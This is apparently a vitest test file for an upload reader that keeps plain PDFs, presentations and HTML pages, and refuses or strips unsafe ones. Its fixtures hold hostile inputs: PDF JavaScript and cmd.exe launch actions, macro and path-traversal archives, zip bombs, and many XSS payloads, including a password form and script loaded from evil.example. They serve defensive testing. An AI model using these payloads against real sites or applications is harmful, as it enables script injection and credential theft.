import { deflateSync } from 'node:zlib'
import { documentFormats } from '@ginipig/domain/upload'
import { expect, test } from 'vitest'
import { macroRecord, pdfOf, pptOf, pptxOf, zipOf } from './document.fixture.ts'
import { readDocument } from './read-document.ts'

const page = (body: string, head = '<title>New client form</title>') =>
  Buffer.from(`<!doctype html><html><head>${head}</head><body>${body}</body></html>`)
const part = (name: string, content: string | Buffer = 'x') => ({ name, content: Buffer.from(content) })
const objects = (text: string) => {
  const packed = deflateSync(Buffer.from(text))
  return `9 0 obj\n<< /Type /ObjStm /Filter /FlateDecode /Length ${packed.length} >>\nstream\n${packed.toString('latin1')}\nendstream\nendobj`
}

test.for([
  { what: 'a PDF', original: pdfOf('A form'), format: 'pdf' },
  {
    what: 'a PDF that ends with line ends',
    original: Buffer.concat([pdfOf('A'), Buffer.from('\r\n\0')]),
    format: 'pdf',
  },
  { what: 'a PDF with packed objects', original: pdfOf('A', objects('<< /Type /Font >>')), format: 'pdf' },
  {
    what: 'a PDF whose picture happens to spell a command',
    original: pdfOf('A', '8 0 obj\n<< /Length 11 >>\nstream\n/JavaScript\nendstream\nendobj'),
    format: 'pdf',
  },
  { what: 'a presentation', original: pptxOf(), format: 'pptx' },
  { what: 'an old presentation', original: pptOf(), format: 'ppt' },
  { what: 'an old presentation that says it has no macros', original: pptOf(macroRecord(0)), format: 'ppt' },
] as const)('$what is kept as it came, as $format', async ({ original, format }) => {
  const read = await readDocument(original)
  expect(read.format).toBe(format)
  expect(Buffer.from(read.bytes).equals(original)).toBe(true)
})

test.for([
  // Not what it begins like.
  { what: 'a picture', original: Buffer.from([0xff, 0xd8, 0xff, 0xe0]), code: 'document_type' },
  { what: 'plain text', original: Buffer.from('Are you pregnant?'), code: 'document_type' },
  { what: 'a program', original: Buffer.from('MZ\u0090\0'), code: 'document_type' },
  { what: 'an SVG', original: Buffer.from('<svg onload="alert(1)"/>'), code: 'document_type' },
  { what: 'nothing', original: Buffer.alloc(0), code: 'document_type' },
  { what: 'the head of a PDF', original: Buffer.from('%PDF-1.7\n'), code: 'document_unreadable' },
  {
    what: 'a PDF with an archive behind it',
    original: Buffer.concat([pdfOf('A'), pptxOf()]),
    code: 'document_unreadable',
  },
  {
    what: 'a PDF with a page behind it',
    original: Buffer.concat([pdfOf('A'), Buffer.from('<script>alert(1)</script>')]),
    code: 'document_unreadable',
  },
  {
    what: 'a PDF behind a password',
    original: pdfOf('A', '9 0 obj\n<< /Encrypt 5 0 R >>\nendobj'),
    code: 'document_unreadable',
  },
  { what: 'the head of an archive', original: Buffer.from('PK\u0003\u0004'), code: 'document_unreadable' },
  {
    what: 'a document of Word',
    original: zipOf([part('[Content_Types].xml'), part('word/document.xml')]),
    code: 'document_unreadable',
  },
  { what: 'an archive of anything', original: zipOf([part('virus.exe')]), code: 'document_unreadable' },
  {
    what: 'an archive with a page behind it',
    original: Buffer.concat([pptxOf(), Buffer.from('<script>alert(1)</script>')]),
    code: 'document_unreadable',
  },
  {
    what: 'an archive that leads out of its folder',
    original: pptxOf([part('../../etc/passwd')]),
    code: 'document_unreadable',
  },
  {
    what: 'an archive with one name twice',
    original: pptxOf([part('ppt/presentation.xml')]),
    code: 'document_unreadable',
  },
  {
    what: 'an old document of Word',
    original: Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.from('WordDocument', 'utf16le')]),
    code: 'document_unreadable',
  },
  {
    what: 'a page without a word',
    original: page('<script>alert(1)</script> <img src="x">'),
    code: 'document_unreadable',
  },
  // Does more than be read.
  {
    what: 'a PDF with a script',
    original: pdfOf('A', '9 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj'),
    code: 'document_unsafe',
  },
  {
    what: 'a PDF with a script under another spelling',
    original: pdfOf('A', '9 0 obj\n<< /S /J#61vaScript >>\nendobj'),
    code: 'document_unsafe',
  },
  {
    what: 'a PDF with a script among packed objects',
    original: pdfOf('A', objects('<< /S /JavaScript >>')),
    code: 'document_unsafe',
  },
  {
    what: 'a PDF that starts a program',
    original: pdfOf('A', '9 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj'),
    code: 'document_unsafe',
  },
  {
    what: 'a PDF with a file in it',
    original: pdfOf('A', '9 0 obj\n<< /Names << /EmbeddedFiles 8 0 R >> >>\nendobj'),
    code: 'document_unsafe',
  },
  { what: 'a presentation with macros', original: pptxOf([part('ppt/vbaProject.bin')]), code: 'document_unsafe' },
  {
    what: 'a presentation with a control',
    original: pptxOf([part('ppt/activeX/activeX1.xml')]),
    code: 'document_unsafe',
  },
  {
    what: 'a presentation with a file in it',
    original: pptxOf([part('ppt/embeddings/virus.xlsx')]),
    code: 'document_unsafe',
  },
  { what: 'an old presentation with macros', original: pptOf(macroRecord(1)), code: 'document_unsafe' },
  {
    what: 'an old presentation with a store of macros',
    original: pptOf(Buffer.from('_VBA_PROJECT', 'utf16le')),
    code: 'document_unsafe',
  },
])('$what is refused: $code', async ({ original, code }) => {
  await expect(async () => readDocument(original)).rejects.toMatchObject({ code })
})

test('a bomb is refused, whether it tells of its size or not', async () => {
  const zeros = Buffer.alloc(60_000_000)
  const honest = pptxOf(Array.from({ length: 4 }, (_, index) => ({ name: `ppt/media/${index}.png`, content: zeros })))
  expect(honest.length).toBeLessThan(1_000_000)
  await expect(async () => readDocument(honest)).rejects.toMatchObject({ code: 'document_unreadable' })
  const lying = pptxOf([{ name: 'ppt/media/1.png', content: zeros, claims: 10 }])
  await expect(async () => readDocument(lying)).rejects.toMatchObject({ code: 'document_unreadable' })
})

test('a page too large is refused before it is read', async () => {
  const large = page('a'.repeat(documentFormats.html.bytes))
  await expect(async () => readDocument(large)).rejects.toMatchObject({ code: 'document_too_large' })
})

const written = async (original: Buffer) => Buffer.from((await readDocument(original)).bytes).toString()

test('of a page what it says is kept, under a policy that lets nothing run', async () => {
  const text = await written(
    page(
      '<h1>Before you come</h1><table><tr><td colspan="2">Allergies?</td></tr></table><p>Caf\u00e9 &amp; <b>henna</b></p>',
    ),
  )
  expect(text).toContain('<h1>Before you come</h1>')
  expect(text).toContain('<td colspan="2">Allergies?</td>')
  expect(text).toContain('<p>Caf\u00e9 &amp; <b>henna</b></p>')
  expect(text).toContain('<title>New client form</title>')
  expect(text).toContain(`content="default-src 'none';`)
  expect(await written(page('<p>Written by an old word processor: caf\u00e9</p>'))).toContain('caf\u00e9')
  const old = Buffer.concat([Buffer.from('<html><p>caf'), Buffer.from([0xe9]), Buffer.from('</p></html>')])
  expect(await written(old)).toContain('<p>caf\u00e9</p>')
})

test.for([
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<style><!-- </style><script>alert(1)</script> --></style>',
  '<textarea><script>alert(1)</script></textarea>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<svg><script>alert(1)</script></svg><svg onload=alert(1)>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<img src=x onerror=alert(1)><img/src="x"/onerror=alert(1)>',
  '<img src="https://evil.example/pixel.gif"><img src="//evil.example/p"><img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<p onclick="alert(1)" style="background:url(//evil.example)">x</p>',
  '<a href="javascript:alert(1)">x</a><a href="java&#115;cript:alert(1)">y</a><a href="https://evil.example">z</a>',
  '<iframe src="https://evil.example"></iframe><object data="x.swf"></object><embed src="x.swf">',
  '<form action="https://evil.example"><input name=password><button>Send</button></form>',
  '<base href="https://evil.example"><meta http-equiv="refresh" content="0;url=https://evil.example"><link rel=stylesheet href="//evil.example">',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
])('a page loses %s', async (hostile) => {
  const text = await written(page(`<p>Kept</p>${hostile}`, hostile))
  expect(text).toContain('<p>Kept</p>')
  const [, body = ''] = text.split('</style></head>')
  expect(body).not.toMatch(/<(?!\/?(?:body|p|html|table|img|textarea)\b)[a-z]/i)
  expect(text).not.toMatch(/\son\w+\s*=|javascript:|evil\.example|<script|<iframe|<svg|<form|http-equiv="refresh"/i)
})

test('a page that is nested without end is refused before it is read', async () => {
  const deep = (levels: number) => page(`${'<div><b>'.repeat(levels)}Kept`)
  await expect(readDocument(deep(9_000))).resolves.toMatchObject({ format: 'html' })
  await expect(readDocument(deep(60_000))).rejects.toMatchObject({ code: 'document_unreadable' })
})
